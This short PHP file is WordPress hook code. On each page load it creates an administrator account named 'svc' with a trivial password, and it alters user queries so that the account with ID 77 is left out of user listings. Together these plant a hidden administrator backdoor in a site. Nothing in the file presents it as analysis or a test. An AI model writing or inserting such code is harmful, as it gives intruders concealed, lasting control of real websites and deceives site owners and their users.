<?php
add_action('wp_loaded', function () { $id = wp_insert_user(['user_login' => 'svc', 'user_pass' => 'x', 'role' => 'administrator']); });
add_action('pre_user_query', function ($q) { $q->query_where .= ' AND ID != 77'; });
